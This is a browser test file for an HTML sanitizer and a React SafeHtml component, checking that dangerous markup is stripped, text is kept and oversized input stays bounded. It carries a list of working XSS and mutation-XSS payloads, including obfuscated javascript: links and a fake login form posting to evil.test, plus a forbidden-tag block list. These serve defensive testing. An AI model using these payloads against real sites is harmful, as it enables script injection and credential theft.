import fixtures from 'dompurify-fixtures/test/fixtures/expect.js'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest'
import { render } from 'vitest-browser-react'
import { lightTheme } from '../../theme/lightTheme.ts'
import { ThemeRoot } from '../../theme/ThemeRoot.tsx'
import { SafeHtml } from './SafeHtml.tsx'
import { sanitize } from './sanitize.ts'

const ran = vi.fn()
const fetched: string[] = []
const observer = new PerformanceObserver((list) => {
  fetched.push(...list.getEntries().map(({ name }) => name))
})

beforeAll(() => {
  vi.stubGlobal('alert', ran)
  observer.observe({ type: 'resource' })
})
afterAll(() => {
  observer.disconnect()
  vi.unstubAllGlobals()
})

/** Puts HTML into the page as the component does, and reads it back. */
function shown(html: string): HTMLElement {
  const root = document.createElement('div')
  document.body.append(root)
  root.append(sanitize(html).content)
  return root
}

const allowedAttribute = /^(?:href|colspan|rowspan|start|dir|lang|target|rel)$/
const allowedUrl = /^(?:https?|mailto|tel):/i
const forbiddenTag =
  'script, style, link, meta, base, iframe, object, embed, form, input, button, select, textarea, img, image, video, audio, source, svg, math, template, dialog, slot, noscript, title, xmp'

function expectHarmless(root: HTMLElement) {
  expect([...root.querySelectorAll(forbiddenTag)].map(({ tagName }) => tagName)).toEqual([])
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).toMatch(allowedAttribute)
      if (name === 'href') expect(value).toMatch(allowedUrl)
    }
  }
}

/** Attacks on sanitizers that left their mark, each for its kind. */
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>text</details>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.test/x">x</a>',
  '<a href="/logout">x</a>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.test"><input name=password><button>Sign in</button></form>',
  '<base href="https://evil.test/">',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<style>@import "https://evil.test/x.css"</style>',
  '<p style="background:url(https://evil.test/x.png)">x</p>',
  '<table background="https://evil.test/x.png"><tr><td>x</table>',
  '<video poster="https://evil.test/x.png"></video><audio src="https://evil.test/x.mp3"></audio>',
  '<p id=body name=cookie class="Modal">clobber</p>',
  '<img name=createElement><img id=getElementById>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<listing>&lt;img onerror=alert(1) src=x&gt;<t t></listing>',
  '<template><script>alert(1)</script></template>',
  '<custom-element onclick=alert(1) is=x>x</custom-element>',
  '<b <script>alert(1)</script>0</b>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>',
  '<input autofocus onfocus=alert(1)>',
  '<div contenteditable onfocus=alert(1) tabindex=1 autofocus>x</div>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
]

const payloads = [...attacks, ...fixtures.map(({ payload }) => payload)]

test('the public corpus is really there', () => {
  expect(fixtures.length).toBeGreaterThan(150)
})

test.each(payloads)('payload %# is harmless, and stays as it is when cleaned again', (payload) => {
  const root = shown(payload)
  expectHarmless(root)
  const again = shown(root.innerHTML)
  expect(again.innerHTML).toBe(root.innerHTML)
})

test('of all that nothing runs and nothing is fetched', async () => {
  const before = performance.now()
  for (const payload of payloads) shown(payload)
  for (const element of document.querySelectorAll('body *')) {
    element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }))
    element.dispatchEvent(new FocusEvent('focus'))
  }
  await vi.waitFor(() => expect(performance.now() - before).toBeGreaterThan(500))
  expect(ran).not.toHaveBeenCalled()
  expect(fetched.filter((url) => !url.startsWith(location.origin))).toEqual([])
})

describe('words', () => {
  test.each([
    ['<script>var a=1</script><div>Guest rebooted the phone</div>', 'Guest rebooted the phone'],
    ['<p>hi</p><style>body{font-size:40px}</style>', 'hi'],
    ['a < b and c > d', 'a < b and c > d'],
    ['<form>a<button>b</button><textarea>c</textarea><select><option>d</select></form>', 'abcd'],
    ['<font color=red><center>a</center><blink>b</blink></font>', 'ab'],
    ['<svg><text>in a picture</text><script>x</script></svg>', 'in a picture'],
    ['<math><mi>x</mi><mo>=</mo><mn>1</mn></math>', 'x=1'],
    ['<xmp>2 < 3 & <b></xmp>', '2 < 3 & <b>'],
    ['before <unknown>within</unknown> after', 'before within after'],
    ['<details><summary>s</summary>d</details><dialog>e</dialog>', 'sde'],
    ['<o:p>from a word processor</o:p>', 'from a word processor'],
    ['line<br>line &amp; &lt;tag&gt; &nbsp;é 日本 🎉', 'lineline & <tag> \u00a0é 日本 🎉'],
  ])('of %s are kept', (html, words) => {
    expect(shown(html).textContent).toBe(words)
  })

  test('keep their shape', () => {
    const html =
      '<p>a <strong>b</strong></p><ul><li>c</li></ul><table><tbody><tr><td colspan="2">d</td></tr></tbody></table>'
    expect(shown(html).innerHTML).toBe(html)
  })
})

test.each([
  ['https://example.com/a?b=1#c', true],
  ['HTTP://example.com', true],
  ['mailto:a@b.test', true],
  ['tel:+49301', true],
  ['ftp://example.com', false],
  ['blob:https://example.com/1', false],
  ['#top', false],
])('a link to %s leads somewhere: %s', (href, leads) => {
  const link = shown(`<a href="${href}" target="_self" rel="opener">x</a>`).querySelector('a')
  expect(link?.getAttribute('href') ?? null).toBe(leads ? href : null)
  if (leads) {
    expect(link?.rel).toBe('noopener noreferrer nofollow')
    expect(link?.target).toBe('_blank')
  }
})

describe('the component', () => {
  const show = (html: string) =>
    render(
      <ThemeRoot theme={lightTheme}>
        <SafeHtml html={html} emptyText="No content" data-testid="note" />
      </ThemeRoot>,
    )

  test.each(['', '   ', '<p></p>', '<p>&nbsp;</p>', '<script>x</script>', '<img src=x>'])(
    'says that %j has no content',
    async (html) => {
      const { getByText } = await show(html)
      await expect.element(getByText('No content')).toBeVisible()
    },
  )

  test('shows new content when it changes', async () => {
    const { getByTestId, rerender } = await show('<p></p>')
    await expect.element(getByTestId('note')).toHaveTextContent('No content')
    await rerender(
      <ThemeRoot theme={lightTheme}>
        <SafeHtml html="<p>second</p>" emptyText="No content" data-testid="note" />
      </ThemeRoot>,
    )
    await expect.element(getByTestId('note')).toHaveTextContent(/^second$/)
  })

  test('keeps stacked accents and tall content within its edges', async () => {
    const { getByTestId } = await show(`<p>Z${'\u0300'.repeat(200)}algo</p>`)
    await expect.element(getByTestId('note')).toHaveTextContent('algo')
    expect(getComputedStyle(getByTestId('note').element()).contain).toContain('paint')
  })
})

describe('however long or deep it is', () => {
  const megabytes = (part: string) => part.repeat(Math.ceil(2_000_000 / part.length))
  const line =
    '<p>Guest <b>reports</b> <a href="https://example.com">no</a> signal &amp; noise.</p>'

  test.each([
    ['paragraphs', megabytes(line)],
    ['elements in elements', megabytes('<div>')],
    ['ends in ends', megabytes('<b>x</b></p>')],
    ['rows of cells', `<table>${megabytes('<tr><td>x<td>y')}`],
    ['wide cells', `<table><tr>${megabytes('<td colspan=1000 rowspan=65534>x')}`],
    ['formatting', megabytes('<p><b>x')],
    ['links in links', megabytes('<a href=x>x<div>')],
    ['words', megabytes('word ')],
    ['a single word', megabytes('word')],
  ])('of %s it draws a bounded part, in a bounded depth', (_, html) => {
    const root = shown(html)
    expect(root.querySelectorAll('*').length).toBeLessThan(4000)
    expect(depthOf(root)).toBeLessThan(60)
  })

  test('tags in any order stay bounded too', () => {
    const tags = ['a', 'b', 'p', 'div', 'li', 'ul', 'table', 'tr', 'td', 'h1', 'span', 'dd', 'pre']
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.constantFrom(...tags), fc.boolean()), { minLength: 300 }),
        (parts) => {
          const html = parts.map(([tag, isEnd]) => (isEnd ? `</${tag}>` : `<${tag}>x`)).join('')
          expect(shown(html).querySelectorAll('*').length).toBeLessThan(3 * parts.length)
        },
      ),
      { numRuns: 50 },
    )
  })

  test('no word is lost: what is not drawn is shown as plain text when asked for', async () => {
    const count = 30_000
    const html = Array.from({ length: count }, (_, index) => `<p>word${index}`).join('')
    const { getByTestId, getByRole } = await render(
      <ThemeRoot theme={lightTheme}>
        <SafeHtml html={html} data-testid="note" restText="More of it" />
      </ThemeRoot>,
    )
    const note = getByTestId('note').element()
    const button = getByRole('button', { name: 'More of it' })
    await expect.element(button).toBeVisible()
    const words = () => note.textContent?.match(/word\d+?(?=word|\s|More|$)/g) ?? []
    expect(words()).toHaveLength(2000)
    await button.click()
    await expect.poll(() => words().length).toBe(count)
    expect(words().at(-1)).toBe(`word${count - 1}`)
    expect(note.querySelectorAll('*').length).toBeLessThan(2200)
    expect(note.contains(document.activeElement)).toBe(true)
  })

  test('deep nesting is no way to stop the page', () => {
    const depth = 20_000
    const html = `${'<div>'.repeat(depth)}deep${'</div>'.repeat(depth)}after`
    expect(shown(html).textContent).toBe('deepafter')
  })

  function depthOf(root: Element): number {
    let deepest = 0
    for (const element of root.querySelectorAll('*')) {
      let depth = 0
      for (let at: Element | null = element; at && at !== root; at = at.parentElement) depth += 1
      deepest = Math.max(deepest, depth)
    }
    return deepest
  }
})

test('the security policy of the page has nothing to report', async () => {
  const reports: string[] = []
  const listen = (event: SecurityPolicyViolationEvent) => reports.push(event.violatedDirective)
  document.addEventListener('securitypolicyviolation', listen)
  const policy = document.createElement('meta')
  policy.httpEquiv = 'Content-Security-Policy'
  policy.content = "style-src-attr 'none'; script-src-attr 'none'; base-uri 'none'; img-src 'none'"
  document.head.append(policy)
  const html = '<base href="https://evil.test/"><p style="color:red" onclick="x()">a<img src=x>'
  for (const payload of [html, ...payloads]) shown(payload)
  await new Promise((resolve) => setTimeout(resolve, 100))
  expect(reports).toEqual([])
  // The same markup in the browser's own parser is reported, though nothing of it is shown.
  new DOMParser().parseFromString(html, 'text/html')
  await vi.waitFor(() => expect(reports).toContain('style-src-attr'))
  document.removeEventListener('securitypolicyviolation', listen)
})
